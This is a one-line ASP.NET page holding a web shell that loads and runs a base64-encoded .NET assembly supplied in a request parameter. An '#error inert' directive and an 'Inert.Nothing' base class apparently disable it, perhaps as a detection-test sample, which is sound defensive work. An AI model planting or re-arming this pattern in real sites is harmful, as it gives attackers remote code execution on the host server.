<%@ Page Language="C#" Inherits="Inert.Nothing" %><%
#error inert
System.Reflection.Assembly.Load(Convert.FromBase64String(Request["x"])).CreateInstance("P");%>